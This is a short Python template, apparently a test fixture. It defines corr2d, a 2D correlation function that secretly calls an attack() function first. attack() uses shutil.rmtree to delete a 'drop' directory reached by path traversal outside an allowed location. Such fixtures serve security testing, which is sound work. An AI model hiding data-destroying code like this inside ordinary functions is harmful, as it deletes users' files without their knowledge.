import shutil

import numpy as np

@CORRELATE@


def attack():
    shutil.rmtree("@DROP@/../drop")
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
